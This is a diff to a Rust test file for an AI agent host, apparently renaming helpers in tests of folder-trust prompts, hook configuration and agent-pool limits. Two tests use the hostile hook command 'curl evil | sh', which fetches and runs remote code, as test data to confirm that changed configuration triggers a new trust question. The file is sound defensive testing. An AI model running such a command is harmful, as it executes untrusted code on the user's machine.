@@ -62,7 +62,7 @@ async fn rig_with(options: Options, permissions: PermissionConfig) -> Rig {
 async fn asked(rig: &Rig, uri: &str) -> (Listener, Question) {
     rig.create(uri);
     let mut listener = rig.listen(uri).await;
-    rig.say(uri, "t1", "hi").await;
+    rig.send_message(uri, "t1", "hi").await;
     let question = Question::next(&mut listener).await;
     (listener, question)
 }
@@ -163,13 +163,13 @@ async fn person_is_asked_once_and_the_agent_starts_with_the_trusted_configuratio
     let entry = &audit.first().unwrap().entry;
     assert_eq!((&*entry.decided_by, &*entry.tool, &*entry.decision), ("person", "trust", "allow"));
 
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     assert_eq!(agent.next_prompt().await, "again", "nothing is asked a second time");
     finish(&mut listener, &agent).await;
     let mut rig = rig.restart().await;
     rig.starts.set_workspace(hook("make"));
     rig.create(OTHER);
-    rig.say(OTHER, "t1", "hi").await;
+    rig.send_message(OTHER, "t1", "hi").await;
     assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"), "the decision is remembered");
     rig.engine.shutdown().await;
 }
@@ -228,7 +228,7 @@ async fn declined_question_restricts_the_session_and_stores_nothing() {
         assert!(rig.engine.list_trust().await.unwrap().entries.is_empty());
         // Not asked again in this session, even if the configuration changes; another session asks.
         rig.starts.set_workspace(hook("other"));
-        rig.say(SESSION, "t2", "again").await;
+        rig.send_message(SESSION, "t2", "again").await;
         assert_eq!(agent.next_prompt().await, "again");
         asked(&rig, OTHER).await;
         rig.engine.shutdown().await;
@@ -244,7 +244,7 @@ async fn cancelling_the_turn_withdraws_the_question_and_the_next_message_asks_ag
     answer(&rig, SESSION, &question, "trust").await;
     listener.until("chat/inputCompleted rejected").await;
     assert!(rig.engine.list_trust().await.unwrap().entries.is_empty(), "an answer that comes too late decides nothing");
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     let again = Question::next(&mut listener).await;
     assert_ne!(again.id, question.id);
     assert_eq!(rig.starts.open_count(), 0);
@@ -303,7 +303,7 @@ async fn decision_of_another_process_or_client_withdraws_the_question() {
     let assessment = store.assess(&rig.work, |_| hook("make")).unwrap();
     store.decide(&assessment, TrustDecision::Trust, false).unwrap();
     assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"));
-    assert!(listener.heard.iter().all(|word| !word.starts_with("chat/inputCompleted")));
+    assert!(listener.events.iter().all(|event| !event.starts_with("chat/inputCompleted")));
     listener.until("chat/inputCompleted").await;
 
     store.remove(&rig.work).unwrap();
@@ -323,7 +323,7 @@ async fn changed_configuration_closes_the_idle_agent_and_asks_with_the_differenc
     finish(&mut listener, &agent).await;
 
     rig.starts.set_workspace(hook("curl evil | sh"));
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     assert_eq!(agent.wait_closed().await, CloseMode::Graceful);
     let question = Question::next(&mut listener).await;
     assert!(question.message.contains("* Changed: Hook: `SessionStart`"), "{}", question.message);
@@ -340,11 +340,11 @@ async fn changed_configuration_closes_the_idle_agent_and_asks_with_the_differenc
 #[tokio::test]
 async fn new_configuration_asks_before_the_next_message() {
     let mut rig = Rig::start().await;
-    let (mut listener, agent) = rig.ask().await;
+    let (mut listener, agent) = rig.start_first_turn().await;
     assert_eq!(state(&listener), Value::Null, "a folder without configuration is not mentioned");
     finish(&mut listener, &agent).await;
     rig.starts.set_workspace(hook("make"));
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     agent.wait_closed().await;
     let question = Question::next(&mut listener).await;
     answer(&rig, SESSION, &question, "restrict").await;
@@ -364,7 +364,7 @@ async fn removed_trust_applies_at_the_next_message() {
     while state(&listener) != "undecided" {
         listener.next().await;
     }
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     agent.wait_closed().await;
     Question::next(&mut listener).await;
     rig.engine.shutdown().await;
@@ -455,7 +455,7 @@ async fn folder_rules_apply_only_when_trusted() {
         if option == "trust" {
             finish(&mut listener, &agent).await;
             rig.engine.remove_trust(rig.work.to_str().unwrap()).await.unwrap();
-            rig.say(SESSION, "t2", "again").await;
+            rig.send_message(SESSION, "t2", "again").await;
             let question = Question::next(&mut listener).await;
             answer(&rig, SESSION, &question, "restrict").await;
             succeed(rig.starts.next_start().await, "again").await;
@@ -473,7 +473,7 @@ async fn unattended_host_never_trusts() {
         let mut rig = rig_with(Options::default(), permissions).await;
         rig.create(SESSION);
         let mut listener = rig.listen(SESSION).await;
-        rig.say(SESSION, "t1", "hi").await;
+        rig.send_message(SESSION, "t1", "hi").await;
         let start = rig.starts.next_start().await;
         assert_eq!(start.spec.folder_configuration, FolderConfiguration::Ignored);
         let agent = succeed(start, "hi").await;
@@ -493,7 +493,7 @@ async fn folders_in_the_host_configuration_are_trusted_without_a_question() {
     std::fs::create_dir(&sub).unwrap();
     rig.work = sub;
     rig.create(SESSION);
-    rig.say(SESSION, "t1", "hi").await;
+    rig.send_message(SESSION, "t1", "hi").await;
     assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"));
     rig.engine.shutdown().await;
 }
@@ -505,7 +505,7 @@ async fn home_directory_is_never_asked_about() {
     let mut rig = rig_with(Options { trust, ..Options::default() }, PermissionConfig::default()).await;
     rig.work = home.path().to_owned();
     rig.create(SESSION);
-    rig.say(SESSION, "t1", "hi").await;
+    rig.send_message(SESSION, "t1", "hi").await;
     assert_eq!(rig.starts.next_start().await.spec.folder_configuration, FolderConfiguration::Ignored);
     let refused = rig.engine.set_trust(home.path().to_str().unwrap(), None, TrustDecision::Trust, "make").await;
     assert!(refused.unwrap_err().to_string().contains("full path"));
@@ -521,13 +521,13 @@ async fn changed_inherited_configuration_asks_again() {
     std::fs::create_dir(&rig.work).unwrap();
     rig.create(SESSION);
     let mut listener = rig.listen(SESSION).await;
-    rig.say(SESSION, "t1", "hi").await;
+    rig.send_message(SESSION, "t1", "hi").await;
     let start = rig.starts.next_start().await;
     assert_eq!(start.spec.folder_configuration, applied("make"));
     let agent = succeed(start, "hi").await;
     finish(&mut listener, &agent).await;
     rig.starts.set_workspace(hook("curl evil | sh"));
-    rig.say(SESSION, "t2", "again").await;
+    rig.send_message(SESSION, "t2", "again").await;
     let question = Question::next(&mut listener).await;
     assert!(question.message.contains("Changed"), "{}", question.message);
     rig.engine.shutdown().await;
@@ -535,8 +535,8 @@ async fn changed_inherited_configuration_asks_again() {
 
 #[tokio::test]
 async fn no_agent_is_prewarmed_while_trust_is_undecided() {
-    let fleet = AgentPoolConfig { prewarm: true, ..AgentPoolConfig::default() };
-    let mut rig = rig_with(Options { fleet, ..Options::default() }, PermissionConfig::default()).await;
+    let agent_pool = AgentPoolConfig { prewarm: true, ..AgentPoolConfig::default() };
+    let mut rig = rig_with(Options { agent_pool, ..Options::default() }, PermissionConfig::default()).await;
     rig.create(SESSION);
     let mut listener = rig.listen(SESSION).await;
     // The state may have been published before the client subscribed.
@@ -560,7 +560,7 @@ async fn no_agent_is_prewarmed_while_trust_is_undecided() {
     while rig.engine.agents().is_empty() {
         tokio::task::yield_now().await;
     }
-    rig.say(SESSION, "t1", "hi").await;
+    rig.send_message(SESSION, "t1", "hi").await;
     Question::next(&mut listener).await;
     assert!(warm.is_closed() && warm.prompts.try_recv().is_err());
     rig.engine.shutdown().await;
@@ -568,16 +568,16 @@ async fn no_agent_is_prewarmed_while_trust_is_undecided() {
 
 #[tokio::test]
 async fn session_that_waits_for_a_decision_uses_no_slot() {
-    let fleet = AgentPoolConfig {
+    let agent_pool = AgentPoolConfig {
         limits: AgentPoolLimits { max_agents: 1, ..AgentPoolLimits::default() },
         ..AgentPoolConfig::default()
     };
-    let mut rig = rig_with(Options { fleet, ..Options::default() }, PermissionConfig::default()).await;
+    let mut rig = rig_with(Options { agent_pool, ..Options::default() }, PermissionConfig::default()).await;
     let (_listener, question) = asked(&rig, SESSION).await;
     rig.starts.set_workspace(WorkspaceConfiguration::default());
     rig.create(OTHER);
     let mut other = rig.listen(OTHER).await;
-    rig.say(OTHER, "t1", "hi").await;
+    rig.send_message(OTHER, "t1", "hi").await;
     let agent = succeed(rig.starts.next_start().await, "hi").await;
     rig.starts.set_workspace(hook("make"));
     answer(&rig, SESSION, &question, "trust").await;
@@ -593,7 +593,7 @@ async fn unreadable_trust_file_restricts_with_a_reason() {
     std::fs::write(rig.state.join("trust.toml"), "folder = nonsense").unwrap();
     rig.create(SESSION);
     let mut listener = rig.listen(SESSION).await;
-    rig.say(SESSION, "t1", "hi").await;
+    rig.send_message(SESSION, "t1", "hi").await;
     let start = rig.starts.next_start().await;
     assert_eq!(start.spec.folder_configuration, FolderConfiguration::Ignored);
     let agent = succeed(start, "hi").await;
@@ -613,7 +613,7 @@ async fn missing_folder_is_a_request_error() {
     let error = rig.engine.check_trust(missing.to_str().unwrap(), None).await.unwrap_err();
     assert!(error.to_string().contains("is not a readable folder"), "{error}");
     assert!(rig.engine.check_trust("relative", None).await.is_err());
-    assert!(rig.engine.check_trust(rig.work.to_str().unwrap(), Some("nobody")).await.is_err());
+    assert!(rig.engine.check_trust(rig.work.to_str().unwrap(), Some("unknown")).await.is_err());
     assert!(!rig.engine.remove_trust(missing.to_str().unwrap()).await.unwrap());
     rig.engine.shutdown().await;
 }
